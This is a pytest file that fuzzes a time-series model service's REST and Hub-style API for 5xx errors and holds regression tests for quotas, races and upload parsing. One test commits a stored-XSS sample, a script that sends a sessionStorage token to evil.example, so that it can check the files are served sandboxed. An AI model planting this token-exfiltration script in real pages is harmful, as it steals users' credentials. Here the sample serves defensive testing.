"""Fuzzing the API in process: every operation of the OpenAPI schema (schemathesis), then uploads of random
bytes under every format and job requests with random bodies against a real dataset (hypothesis).
The property is the same everywhere: no 5xx, and every 4xx says what is wrong."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import io
import json
import os
import threading
import time

import numpy as np
import pytest

pytest.importorskip("fastapi")

from fastapi.testclient import TestClient  # noqa: E402
from httpx import Response  # noqa: E402
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402
from sqlalchemy import delete  # noqa: E402

import server.app  # noqa: E402
import server.hub_api  # noqa: E402
from server.app import create_app  # noqa: E402
from server.auth import TokenNameError, create_token  # noqa: E402
from server.config import Settings  # noqa: E402
from server.db import DatasetRecord  # noqa: E402

FUZZ = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory):
    home = tmp_path_factory.mktemp("fuzz_home")
    mp = pytest.MonkeyPatch()
    mp.setenv("TSHUB_HOME", str(home))
    mp.setenv("TSHUB_MAX_UPLOAD_MB", "0.25")
    mp.setenv("TSHUB_SERVER_SOURCES", "Coffee/fcn")  # absent from this home: no checkpoint, not the repo zoo's
    app = create_app(Settings.from_env())
    _, app.state.test_token = create_token(app.state.Session, "fuzzer")
    yield app
    mp.undo()


@pytest.fixture(scope="module")
def client(app) -> TestClient:
    with TestClient(
        app, raise_server_exceptions=False, headers={"Authorization": f"Bearer {app.state.test_token}"}
    ) as c:
        yield c


def test_no_operation_answers_5xx(app) -> None:
    """schemathesis cases for every operation of the app's own OpenAPI document, sent with a valid token."""
    schemathesis = pytest.importorskip("schemathesis", reason="the OpenAPI fuzz needs schemathesis (dev extra)")
    headers = {"Authorization": f"Bearer {app.state.test_token}"}
    operations = [result.ok() for result in schemathesis.openapi.from_asgi("/openapi.json", app).get_all_operations()]
    assert len(operations) >= 11
    for operation in operations:

        @given(case=operation.as_strategy())
        @settings(FUZZ, max_examples=15)
        def check(case) -> None:
            case.call_and_validate(headers=headers, checks=[schemathesis.checks.not_a_server_error])

        check()


def assert_client_error(response) -> None:
    assert response.status_code < 500, response.text
    if response.status_code >= 400:
        detail = response.json()["detail"]
        assert detail and "Traceback" not in response.text


@pytest.fixture(scope="module")
def dataset_id(client: TestClient) -> str:
    rows = "\n".join(f"{i % 3}," + ",".join(str((i * j) % 7 - 3.5) for j in range(20)) for i in range(30))
    response = client.post("/v1/datasets", files={"file": ("small.csv", rows.encode())})
    assert response.status_code == 201, response.text
    return response.json()["id"]


SUFFIXES = [".csv", ".tsv", ".tsv.gz", ".txt", ".ts", ".arff", ".npz", ".csv.gz", ".npz.gz", "", ".bin", "_TRAIN"]
TEXTY = st.text(alphabet="0123456789.,-\t\n NaN?@:{}e", max_size=400).map(str.encode)


@given(
    content=st.one_of(st.binary(max_size=400), TEXTY),
    suffix=st.sampled_from(SUFFIXES),
    task=st.sampled_from([None, "classification", "regression", "other"]),
    label_column=st.sampled_from([None, "0", "-1", "5", "label", "", "x" * 300]),
    variable_length=st.sampled_from([None, "pad", "truncate", "resample", "bogus"]),
)
@FUZZ
def test_random_uploads_are_never_5xx(
    client: TestClient, content: bytes, suffix: str, task, label_column, variable_length
) -> None:
    form = {
        k: v
        for k, v in {"task": task, "label_column": label_column, "variable_length": variable_length}.items()
        if v is not None
    }
    assert_client_error(client.post("/v1/datasets", files={"file": (f"data{suffix}", content)}, data=form))


SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20)
JSON_VALUES = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)
JOB_FIELDS = {
    "model": st.sampled_from(["auto", "Coffee/fcn", "x/y", "", "Nope/fcn", "a/b/c"]) | JSON_VALUES,
    "lr_multiplier": st.sampled_from(["grid", 0.0, -1.0, 1e300, "1.0"]) | JSON_VALUES,
    "epochs": st.integers(-5, 5000) | JSON_VALUES,
    "budget_s": st.floats() | JSON_VALUES,
    "seed": st.integers(-(2**40), 2**40) | JSON_VALUES,
    "baseline": JSON_VALUES,
    "arch": st.sampled_from(["fcn", "nope", None]) | JSON_VALUES,
    "extra": JSON_VALUES,
}


@given(fields=st.fixed_dictionaries({}, optional=JOB_FIELDS), keep_dataset=st.booleans(), raw=st.booleans())
@FUZZ
def test_random_job_requests_are_never_5xx(
    client: TestClient, dataset_id: str, fields: dict, keep_dataset: bool, raw: bool
) -> None:
    body = {"dataset_id": dataset_id if keep_dataset else "missing", **fields}
    if raw:  # not even JSON sometimes
        response = client.post(
            "/v1/jobs", content=json.dumps(body)[:-1].encode(), headers={"Content-Type": "application/json"}
        )
    else:
        response = client.post("/v1/jobs", json=body)
    assert_client_error(response)
    if response.status_code == 202:
        job_id = response.json()["id"]
        for path in (f"/v1/jobs/{job_id}", f"/v1/jobs/{job_id}/model"):
            assert_client_error(client.get(path))
        assert_client_error(client.post(f"/v1/jobs/{job_id}/cancel"))


@given(
    k=st.integers(-3, 200),
    arch=st.sampled_from([None, "fcn", "tcn", "nope", ""]),
    method=st.sampled_from(["logme", "hscore", "dtw", "probe", 3]),
    keep_dataset=st.booleans(),
)
@settings(max_examples=10, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_random_recommend_requests_are_never_5xx(
    client: TestClient, dataset_id: str, k, arch, method, keep_dataset: bool
) -> None:
    body = {"dataset_id": dataset_id if keep_dataset else "missing", "k": k, "arch": arch, "method": method}
    assert_client_error(client.post("/v1/recommend", json=body))


def test_streamed_upload_over_the_limit_is_413(client: TestClient) -> None:
    """No Content-Length (chunked): the limit is enforced while the body streams."""

    def chunks():
        for _ in range(40):
            yield b"1,2,3,4,5,6,7,8\n" * 1024

    boundary = "fuzzboundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n'
        "Content-Type: text/csv\r\n\r\n"
    ).encode()

    def body():
        yield head
        yield from chunks()
        yield f"\r\n--{boundary}--\r\n".encode()

    response = client.post(
        "/v1/datasets", content=body(), headers={"Content-Type": f"multipart/form-data; boundary={boundary}"}
    )
    assert response.status_code == 413 and "0.25 MB" in response.json()["detail"]


def test_openapi_documents_every_operation_with_examples(client: TestClient) -> None:
    spec = client.get("/openapi.json").json()
    operations = {(m.upper(), p) for p, item in spec["paths"].items() for m in item}
    assert {
        ("POST", "/v1/datasets"),
        ("POST", "/v1/jobs"),
        ("GET", "/v1/jobs/{job_id}"),
        ("POST", "/v1/jobs/{job_id}/cancel"),
        ("GET", "/v1/jobs/{job_id}/model"),
        ("GET", "/v1/models"),
        ("GET", "/v1/models/{source}/{arch}"),
        ("POST", "/v1/recommend"),
        ("GET", "/healthz"),
    } <= operations
    schemas = spec["components"]["schemas"]
    for name in ("JobCreate", "JobOut", "DatasetSummary", "RecommendRequest", "Progress"):
        assert schemas[name].get("examples"), name
    assert spec["components"]["securitySchemes"]["HTTPBearer"]["scheme"] == "bearer"
    assert "security" not in spec["paths"]["/healthz"]["get"]


def test_every_v1_operation_documents_the_429_of_the_tenants_concurrency(client: TestClient) -> None:
    """Regression: TSHUB_TENANT_CONCURRENCY answers 429 on every /v1 request, but the GET and DELETE operations did
    not list it, so a client generated from /openapi.json did not expect it."""
    spec = client.get("/openapi.json").json()
    v1 = [(m, p, op) for p, item in spec["paths"].items() if p.startswith("/v1/") for m, op in item.items()]
    assert len(v1) >= 11
    for method, path, operation in v1:
        assert "TSHUB_TENANT_CONCURRENCY" in operation["responses"]["429"]["description"], (method, path)


def test_the_model_example_is_what_the_service_lists() -> None:
    """Regression: the ModelInfo example showed "metric": "accuracy" where GET /v1/models answers "Accuracy"."""
    from pathlib import Path

    from server.schemas import ModelInfo
    from tshub.hub.ids import parse_model_id
    from tshub.hub.store import summarize

    (example,) = ModelInfo.model_json_schema()["examples"]
    zoo = Path(__file__).resolve().parents[1] / "zoo" / example["id"]
    if not zoo.is_dir():
        pytest.skip(f"the repository zoo has no {example['id']}")
    listed = summarize(parse_model_id(example["id"]), zoo)
    assert {k: listed[k] for k in example} == example


def test_an_upload_with_two_file_parts_is_refused(client: TestClient) -> None:
    """Regression: a second ``file`` part silently replaced the first (201, the client believing both stored)."""
    rows = "\n".join(f"{i % 2}," + ",".join(str((i * j) % 5) for j in range(12)) for i in range(24)).encode()
    for parts in (
        [("file", ("a.csv", rows)), ("file", ("b.csv", rows))],
        [("file", ("a.csv", rows)), ("test_file", ("b.csv", rows)), ("test_file", ("c.csv", rows))],
    ):
        response = client.post("/v1/datasets", files=parts)
        assert response.status_code == 422, response.text
        name = parts[-1][0]
        assert f"the upload has 2 parts named '{name}'; it takes one 'file'" in response.json()["detail"]
    assert client.post("/v1/datasets", files=[("file", ("a.csv", rows))]).status_code == 201


def test_an_upload_with_a_part_it_does_not_take_is_refused(client: TestClient) -> None:
    """Regression: form parts the upload does not take (``label-column`` spelled as the CLI's flag,
    ``test_fraction``) were ignored without a word: the file was parsed with the defaults, the client believing its
    option applied."""
    rows = "\n".join(f"{i % 2}," + ",".join(str((i * j) % 5) for j in range(12)) for i in range(24)).encode()
    for field, hint in (("label-column", "did you mean 'label_column'?"), ("test_fraction", "it takes file, ")):
        response = client.post("/v1/datasets", files=[("file", ("a.csv", rows))], data={field: "1"})
        assert response.status_code == 422, response.text
        detail = response.json()["detail"]
        assert f"the upload has a part named '{field}', which it does not take; " in detail and hint in detail


def test_an_unknown_json_field_is_refused_naming_those_the_body_takes(client: TestClient) -> None:
    """Regression: ``"max_epochs"`` (the CLI's and Python's name of a job's ``epochs``) answered only FastAPI's
    'Extra inputs are not permitted', never saying which field the API takes instead."""
    response = client.post("/v1/jobs", json={"dataset_id": "d", "max_epochs": 2})
    assert response.status_code == 422, response.text
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", "max_epochs"] and error["type"] == "extra_forbidden"
    assert "'max_epochs' is no field of this body; did you mean 'epochs'? it takes dataset_id, model," in error["msg"]


def test_422_bodies_match_the_documented_schema(client: TestClient, dataset_id: str) -> None:
    """Both kinds of 422, FastAPI's list of invalid fields and tshub's own sentence, fit what OpenAPI declares,
    so a client generated from /openapi.json can read them."""
    jsonschema = pytest.importorskip("jsonschema")
    spec = client.get("/openapi.json").json()
    declared = spec["paths"]["/v1/jobs"]["post"]["responses"]["422"]["content"]["application/json"]["schema"]
    for body in ({"dataset_id": dataset_id, "k": 3}, {"dataset_id": dataset_id, "budget_s": 10**6}):
        response = client.post("/v1/jobs", json=body)
        assert response.status_code == 422, response.text
        jsonschema.validate(response.json(), {**declared, "components": spec["components"]})


def test_arch_beside_a_named_model_of_another_arch_is_refused(client: TestClient, dataset_id: str) -> None:
    """arch only narrows model='auto': a job for GunPoint/fcn with arch tcn would silently fine-tune an fcn."""
    response = client.post("/v1/jobs", json={"dataset_id": dataset_id, "model": "GunPoint/fcn", "arch": "tcn"})
    assert response.status_code == 422
    assert "arch='tcn' contradicts model='GunPoint/fcn'" in response.json()["detail"]


def test_the_api_docs_work_offline(app) -> None:
    """Regression: /docs and /redoc loaded Swagger UI and ReDoc from cdn.jsdelivr.net, so on a server without the
    internet (this project's machines, many labs' clusters) the documentation the README points to was blank.
    A browser opens them without a token."""
    client = TestClient(app)
    for page in ("/docs", "/redoc"):
        html = client.get(page).text
        assert "cdn.jsdelivr.net" not in html and "https://" not in html.split("<body")[0], page
        scripts = [part.split('"')[0] for part in html.split('src="')[1:]]
        assert scripts, page
        for script in scripts:
            served = client.get(script)
            assert served.status_code == 200 and len(served.content) > 100_000, script  # the real bundle


def test_a_json_body_of_another_content_type_is_415_saying_what_to_send(client: TestClient, dataset_id: str) -> None:
    """Regression: a JSON body sent as text/plain, form-encoded (what ``curl -d`` sends without ``-H``) or with no
    Content-Type was a 422 ``model_attributes_type`` that echoed the raw bytes back."""
    body = json.dumps({"dataset_id": dataset_id})
    for path in ("/v1/jobs", "/v1/recommend"):
        for content_type in ("text/plain", "application/x-www-form-urlencoded", None):
            headers = {"Content-Type": content_type} if content_type else {}
            response = client.post(path, content=body, headers=headers)
            assert response.status_code == 415, (path, content_type, response.text)
            assert "send it with 'Content-Type: application/json'" in response.json()["detail"], response.text
            assert dataset_id not in response.text
    assert client.post("/v1/jobs", data={"dataset_id": dataset_id}).status_code == 415
    charset = client.post("/v1/jobs", content=body, headers={"Content-Type": "application/json; charset=utf-8"})
    assert charset.status_code != 415, charset.text  # JSON, with a parameter


def test_ids_in_paths_are_bounded_and_never_echoed_whole(client: TestClient) -> None:
    """Regression: ``GET /v1/jobs/<5000 characters>`` echoed the whole id back in its 404."""
    long = "a" * 5000
    for method, path in (
        ("GET", f"/v1/jobs/{long}"),
        ("DELETE", f"/v1/jobs/{long}"),
        ("POST", f"/v1/jobs/{long}/cancel"),
        ("GET", f"/v1/jobs/{long}/model"),
        ("GET", f"/v1/datasets/{long}"),
        ("DELETE", f"/v1/datasets/{long}"),
        ("GET", f"/v1/models/{long}/fcn"),
        ("GET", f"/v1/models/Coffee/{long}"),
    ):
        response = client.request(method, path)
        assert response.status_code in (404, 422), (path[:30], response.text[:300])
        assert len(response.content) < 1000 and "a" * 100 not in response.text, response.text[:300]
    response = client.post("/v1/jobs", json={"dataset_id": long})  # a body field too: its echo is cut
    assert response.status_code == 422 and "a" * 100 not in response.text and "(5000 characters)" in response.text


def test_an_upload_whose_header_names_another_label_column_is_refused_unless_one_is_chosen(client: TestClient) -> None:
    """Regression: a pandas CSV with its 'label' column last was read with the form's label_column "0": the first time
    step became a regression target and the labels a time step (201, "task": "regression"). Left empty, the field
    is the readers' default, which refuses to guess; an explicit 0 reads as asked."""
    header = ",".join(str(j) for j in range(12)) + ",label"
    rows = "\n".join(",".join(f"{((i * (j + 1)) % 7) / 3:.3f}" for j in range(12)) + f",{1 + i % 2}" for i in range(24))
    content = f"{header}\n{rows}\n".encode()
    refused = client.post("/v1/datasets", files=[("file", ("last.csv", content))])
    assert refused.status_code == 422, refused.text
    assert "names column 13 'label'" in refused.json()["detail"]
    named = client.post("/v1/datasets", files=[("file", ("last.csv", content))], data={"label_column": "label"})
    assert named.status_code == 201 and named.json()["summary"]["task"] == "classification", named.text
    explicit = client.post("/v1/datasets", files=[("file", ("last.csv", content))], data={"label_column": "0"})
    assert explicit.status_code == 201 and explicit.json()["summary"]["task"] == "regression", explicit.text


def test_an_upload_of_a_long_table_is_its_series(client: TestClient) -> None:
    """A long table (a row per series and time step, as pandas' melt or a database export writes it) is summarised
    as its 24 series of 16 steps, not as 384 series of 2 values."""
    rows = [f"s{i},{t},{(t * (1 + i % 2)) % 5 / 4:.2f},{'ab'[i % 2]}" for i in range(24) for t in range(16)]
    content = ("series_id,time,value,label\n" + "\n".join(rows) + "\n").encode()
    response = client.post("/v1/datasets", files=[("file", ("long.csv", content))])
    assert response.status_code == 201, response.text
    summary = response.json()["summary"]
    assert (summary["n"], summary["length"], summary["classes"]) == (24, 16, ["a", "b"]), summary


def test_an_upload_of_split_arrays_keeps_its_own_test_split(client: TestClient) -> None:
    """An .npz of X_train, y_train, X_test, y_test is tested on its X_test: no share of it is held out instead."""
    rng = np.random.default_rng(0)
    buffer = io.BytesIO()
    np.savez(
        buffer,
        X_train=rng.random((30, 40)),
        y_train=np.array(["a", "b"] * 15),
        X_test=rng.random((11, 40)),
        y_test=np.array(["a", "b"] * 5 + ["a"]),
    )
    response = client.post("/v1/datasets", files=[("file", ("split.npz", buffer.getvalue()))])
    assert response.status_code == 201, response.text
    summary = response.json()["summary"]
    assert summary["n"] == 41 and summary["splits"]["test"] == 11, summary
    assert summary["splits"]["train"] + summary["splits"]["val"] == 30, summary


def test_an_upload_bringing_its_validation_split_records_the_splits_as_given(client: TestClient) -> None:
    """Regression: an .npz of X_train, y_train, X_val, y_val stored split_protocol null."""
    rng = np.random.default_rng(0)
    buffer = io.BytesIO()
    labels = np.array(["a", "b"] * 15)
    np.savez(buffer, X_train=rng.random((30, 40)), y_train=labels, X_val=rng.random((10, 40)), y_val=labels[:10])
    response = client.post("/v1/datasets", files=[("file", ("trainval.npz", buffer.getvalue()))])
    assert response.status_code == 201, response.text
    summary = response.json()["summary"]
    assert summary["split_protocol"] == {"rule": "given", "splits": {"train": 30, "val": 10}}, summary


def test_a_refused_value_no_utf_8_can_carry_is_a_422(client: TestClient) -> None:
    """Regression: JSON's escape of a lone surrogate ("\\ud800") is a string pydantic refuses, and echoing it back
    made the 422 itself fail to encode (a 500, or a dropped connection)."""
    for path in ("/v1/jobs", "/v1/recommend"):
        response = client.post(path, content=b'{"dataset_id": "\\ud800"}', headers={"Content-Type": "application/json"})
        assert response.status_code == 422, response.text
        assert response.json()["detail"][0]["loc"] == ["body", "dataset_id"], response.text


def test_a_job_racing_the_deletion_of_its_dataset_is_a_404_and_the_deletion_a_409(
    app, client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression: a job created while its dataset was deleted (or a dataset deleted while a job on it was created)
    broke the jobs' foreign key: a 500 for one of the two requests."""
    rows = "\n".join(f"{i % 2}," + ",".join(str((i * j) % 5) for j in range(12)) for i in range(24)).encode()
    dataset = client.post("/v1/datasets", files={"file": ("race.csv", rows)}).json()["id"]
    create = app.state.jobs.create

    def deleted_meanwhile(owner_id: str, dataset_id: str, *args, **kwargs):
        with app.state.Session.begin() as session:
            session.execute(delete(DatasetRecord).where(DatasetRecord.id == dataset_id))
        return create(owner_id, dataset_id, *args, **kwargs)

    monkeypatch.setattr(app.state.jobs, "create", deleted_meanwhile)
    response = client.post("/v1/jobs", json={"dataset_id": dataset})
    assert response.status_code == 404 and "no dataset" in response.json()["detail"], response.text
    monkeypatch.undo()

    dataset = client.post("/v1/datasets", files={"file": ("race.csv", rows)}).json()["id"]
    assert client.post("/v1/jobs", json={"dataset_id": dataset}).status_code == 202
    counts: list[str] = []
    jobs_using = server.app.jobs_using

    def missed_the_job(session, dataset_id: str) -> int:  # the job was created between the count and the delete
        counts.append(dataset_id)
        return 0 if len(counts) == 1 else jobs_using(session, dataset_id)

    monkeypatch.setattr(server.app, "jobs_using", missed_the_job)
    response = client.delete(f"/v1/datasets/{dataset}")
    assert response.status_code == 409 and "is used by 1 job(s)" in response.json()["detail"], response.text
    assert client.get(f"/v1/datasets/{dataset}").status_code == 200


# ------------------------------------------------------------------------------------------------ the Hub API
def hub_commit(client: TestClient, repo: str, files: dict[str, bytes], summary: str = "upload") -> Response:
    """A commit as huggingface_hub sends it: a header line, then one base64 ``file`` line per file."""
    lines = [{"key": "header", "value": {"summary": summary}}] + [
        {"key": "file", "value": {"path": path, "content": base64.b64encode(data).decode(), "encoding": "base64"}}
        for path, data in files.items()
    ]
    body = "\n".join(json.dumps(line) for line in lines).encode()
    return client.post(
        f"/api/models/{repo}/commit/main", content=body, headers={"Content-Type": "application/x-ndjson"}
    )


@pytest.fixture(scope="module")
def hub_repo(client: TestClient) -> str:
    response = client.post("/api/repos/create", json={"name": "hostile"})
    assert response.status_code == 200, response.text
    return response.json()["name"]


def test_hub_files_are_served_so_that_a_browser_runs_none_of_them(client: TestClient, hub_repo: str) -> None:
    """Regression: a tenant's x.html or x.svg came back as text/html or image/svg+xml on the service's own origin,
    where its script could read the token the web pages keep in the tab."""
    page = b"<script>fetch('https://evil.example/?' + sessionStorage.getItem('token'))</script>"
    assert hub_commit(client, hub_repo, {"x.html": page, "x.svg": b"<svg>" + page + b"</svg>"}).status_code == 200
    for name in ("x.html", "x.svg"):
        response = client.get(f"/{hub_repo}/resolve/main/{name}")
        assert response.status_code == 200 and response.content.startswith(b"<"), response.text
        assert "sandbox" in response.headers["content-security-policy"], response.headers
        assert response.headers["x-content-type-options"] == "nosniff", response.headers


@pytest.mark.parametrize(
    "files",
    [
        {"\ud800.bin": b"x"},  # a lone surrogate (JSON's "\ud800"): no UTF-8 answer can name it
        {"a\nb.bin": b"x"},  # a control character: no URL of the Hub's reaches it
        {"README.md": b'---\ntags:\n- "\\ud800"\n---\ncard\n'},  # YAML's escape of one, in the card's metadata
    ],
)
def test_hub_text_that_no_answer_can_carry_is_refused_and_listings_stay_up(
    client: TestClient, hub_repo: str, files: dict[str, bytes]
) -> None:
    """Regression: one tenant's commit of such a path or card value made GET /api/models (every public repo's files
    and card) a 500 for every caller."""
    response = hub_commit(client, hub_repo, files)
    assert response.status_code in (200, 400), response.text
    for path in ("/api/models", f"/api/models/{hub_repo}", f"/api/models/{hub_repo}/tree/main"):
        assert client.get(path).status_code == 200, (path, client.get(path).text)
    response = hub_commit(client, hub_repo, {"ok.bin": b"x"}, summary="\ud800")
    assert response.status_code == 400 and "summary" in response.json()["error"], response.text
    paths = json.dumps({"files": [{"path": path} for path in files]})  # asking how to send them was a 500 too
    response = client.post(f"/api/models/{hub_repo}/preupload/main", content=paths.encode())
    assert response.status_code in (200, 400), response.text


def test_hub_refusals_answer_whatever_characters_the_request_named(client: TestClient, hub_repo: str) -> None:
    """Regression: a NUL in a revision or file path went into the X-Error-Message header, which the HTTP server
    refuses to send: the connection dropped with no answer."""
    for path in (f"/api/models/{hub_repo}/revision/main%00", f"/{hub_repo}/resolve/main/x%00.bin"):
        response = client.get(path)
        assert response.status_code == 404, response.text
        assert all(" " <= c <= "~" for c in response.headers["x-error-message"]), response.headers


def test_a_hub_path_cannot_be_a_file_and_a_folder(client: TestClient, hub_repo: str) -> None:
    """A repo holding both ``a`` and ``a/b`` cannot be downloaded (no folder holds a file and a folder of one name)."""
    assert hub_commit(client, hub_repo, {"weights": b"x"}).status_code == 200
    for files in ({"weights/extra.bin": b"x"}, {"deep/a": b"x", "deep/a/b": b"y"}):
        response = hub_commit(client, hub_repo, files)
        assert response.status_code == 400 and "both a file and a folder" in response.json()["error"], response.text


@pytest.fixture
def small_quota(app):
    """TSHUB_TENANT_STORAGE_MB=0.15 for one test (monkeypatch cannot restore an attribute of ``app.state``)."""
    settings = app.state.settings
    app.state.settings = dataclasses.replace(settings, tenant_storage_mb=0.15)
    yield
    app.state.settings = settings


def test_concurrent_uploads_and_hub_commits_of_a_tenant_stay_within_its_quota(
    app, small_quota, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression: each request checked the quota against what was stored when it began, so a tenant's concurrent
    uploads (8 of 0.27 MB under a 1 MB quota) or Hub commits (any number: no concurrency limit there) all passed."""
    owner, token = create_token(app.state.Session, "quota-racer")
    headers = {"Authorization": f"Bearer {token}"}
    run = app.state.isolator.run

    def stored_meanwhile(*args, **kwargs):  # another upload of this tenant lands while this one is parsed
        with app.state.Session.begin() as session:
            session.add(
                DatasetRecord(owner_id=owner.id, filename="x.csv", raw_sha256="0", path="p", summary={}, bytes=150_000)
            )
        return run(*args, **kwargs)

    monkeypatch.setattr(app.state.isolator, "run", stored_meanwhile)
    rows = "\n".join(f"{i % 2}," + ",".join(str((i * j) % 5) for j in range(12)) for i in range(24)).encode()
    response = TestClient(app, headers=headers).post("/v1/datasets", files={"file": ("quota.csv", rows)})
    assert response.status_code == 413 and "storage quota exceeded" in response.json()["detail"], response.text
    with app.state.Session.begin() as session:
        session.execute(delete(DatasetRecord).where(DatasetRecord.owner_id == owner.id))

    assert TestClient(app, headers=headers).post("/api/repos/create", json={"name": "race"}).status_code == 200
    checked = server.hub_api.check_quota

    def slow_check(*args) -> None:  # the two commits check before either stores
        checked(*args)
        time.sleep(1)

    monkeypatch.setattr(server.hub_api, "check_quota", slow_check)
    answers: list[int] = []

    def push(name: str) -> None:
        client = TestClient(app, headers=headers)
        answers.append(hub_commit(client, "quota-racer/race", {name: os.urandom(100_000)}).status_code)

    threads = [threading.Thread(target=push, args=(f"{n}.bin",)) for n in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(answers) == [200, 413], answers


def test_the_same_upload_twice_counts_once_against_the_quota(app) -> None:
    """Regression: a re-upload of the same file with the same options reuses the stored files, yet its bytes were
    counted again, so a tenant stored half what its quota allowed after uploading a file twice."""
    from server.storage import tenant_usage

    owner, token = create_token(app.state.Session, "re-uploader")
    client = TestClient(app, headers={"Authorization": f"Bearer {token}"})
    rows = "\n".join(f"{i % 2}," + ",".join(str((i * j) % 7) for j in range(30)) for i in range(40)).encode()
    first = client.post("/v1/datasets", files={"file": ("twice.csv", rows)})
    assert first.status_code == 201, first.text
    once = tenant_usage(app.state.Session, owner.id)
    settings = app.state.settings
    app.state.settings = dataclasses.replace(settings, tenant_storage_mb=1.5 * once / 2**20)
    try:
        second = client.post("/v1/datasets", files={"file": ("twice.csv", rows)})
    finally:
        app.state.settings = settings
    assert second.status_code == 201, second.text
    assert second.json()["id"] != first.json()["id"] and tenant_usage(app.state.Session, owner.id) == once


def test_a_token_cannot_be_named_after_another_tenants_hub_namespace(app, client: TestClient) -> None:
    """Regression: a tenant could create repos under 'erin' before the operator created erin's token; erin could then
    publish nothing under its own name, and the other tenant's repos showed as erin's."""
    assert client.post("/api/repos/create", json={"name": "models", "organization": "erin"}).status_code == 200
    for name in ("erin", "ERIN"):
        with pytest.raises(TokenNameError, match="Hub namespace 'erin'"):
            create_token(app.state.Session, name)


def test_a_refused_hub_commit_stores_nothing(app, client: TestClient, hub_repo: str) -> None:
    """Regression: a commit's files were stored before it was refused (a missing branch, or deleting a file that is
    not there), named by no commit, so outside every quota and kept forever: a tenant could fill the disk."""
    blobs = app.state.settings.storage / "hub" / "blobs"
    for branch, extra in (("main", [{"key": "deletedFile", "value": {"path": "not-there"}}]), ("nobranch", [])):
        content = os.urandom(1000)
        lines = [
            {"key": "header", "value": {"summary": "refused"}},
            {"key": "file", "value": {"path": "big.bin", "content": base64.b64encode(content).decode()}},
            *extra,
        ]
        body = "\n".join(json.dumps(line) for line in lines).encode()
        response = client.post(f"/api/models/{hub_repo}/commit/{branch}", content=body)
        assert response.status_code == 404, response.text
        digest = hashlib.sha256(content).hexdigest()
        assert not (blobs / digest[:2] / digest).exists(), branch


def test_every_folder_id_is_its_files_listing_in_one_pass() -> None:
    """Regression: each folder's id scanned the whole tree, so listing a public repo of 10,000 one-file folders cost
    anyone 28 s of the API's CPU per request (0.24 s in one pass); the ids stay those the Hub's clients were given:
    the sha1 of the folder's files' paths and blob ids, nested folders included."""
    files = {f"d{i}/w.bin": {"oid": f"{i:040x}"} for i in range(50)}
    files |= {"d7/sub/x": {"oid": "0" * 40}, "d7/sub/deeper/y": {"oid": "1" * 40}, "top.bin": {"oid": "2" * 40}}
    oids = server.hub_api.folder_oids(files)
    folders = {p.rsplit("/", k)[0] for p in files for k in range(1, p.count("/") + 1)}
    assert oids.keys() == folders and "top.bin" not in oids
    for folder in folders:
        listing = sorted((p, e["oid"]) for p, e in files.items() if p.startswith(folder + "/"))
        assert oids[folder] == hashlib.sha1(json.dumps(listing).encode()).hexdigest(), folder


def test_an_upload_racing_the_deletion_of_its_twin_keeps_no_dataset_without_data(
    app, client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression: a re-upload reuses the parsed file of an earlier upload of the same bytes; deleting that earlier
    dataset while the re-upload was parsed removed the file, and the re-upload answered 201 for a dataset whose data
    was gone ("missing from the server's storage" ever after)."""
    rows = "\n".join(f"{i % 2}," + ",".join(str((i * j + 1) % 5) for j in range(12)) for i in range(24)).encode()
    twin = client.post("/v1/datasets", files={"file": ("twin.csv", rows)}).json()["id"]
    run = app.state.isolator.run

    def deleted_meanwhile(*args, **kwargs):
        ingested = run(*args, **kwargs)  # found the twin's parsed file
        assert client.delete(f"/v1/datasets/{twin}").status_code == 204
        return ingested

    monkeypatch.setattr(app.state.isolator, "run", deleted_meanwhile)
    response = client.post("/v1/datasets", files={"file": ("twin.csv", rows)})
    assert response.status_code == 409 and "upload it again" in response.json()["detail"], response.text


def test_an_upload_whose_test_file_copies_training_series_says_so_without_server_paths(client: TestClient) -> None:
    """Regression: the reader's warnings reached an upload's ``warnings`` naming the file where the server stored it
    (its storage folder and content hash); now as the client named it. Shown with the warning about a held-out file
    holding exact copies of training series."""
    train = "\n".join(f"{i % 2}," + ",".join(str((i * j) % 5) for j in range(12)) for i in range(24))
    test = "\n".join(
        train.splitlines()[:3] + [f"{i % 2}," + ",".join(str((i + j) % 7) for j in range(12)) for i in range(9)]
    )
    response = client.post(
        "/v1/datasets",
        files=[("file", ("mine_train.csv", train.encode())), ("test_file", ("mine_test.csv", test.encode()))],
    )
    assert response.status_code == 201, response.text
    said = [w for w in response.json()["summary"]["warnings"] if "exact copies of training series" in w]
    assert len(said) == 1 and "3 of the 12 series of the 'test' file mine_test.csv" in said[0], said
    assert "/" not in said[0].split("file ", 1)[1].split(" ", 1)[0], said  # the client's name, no server folder
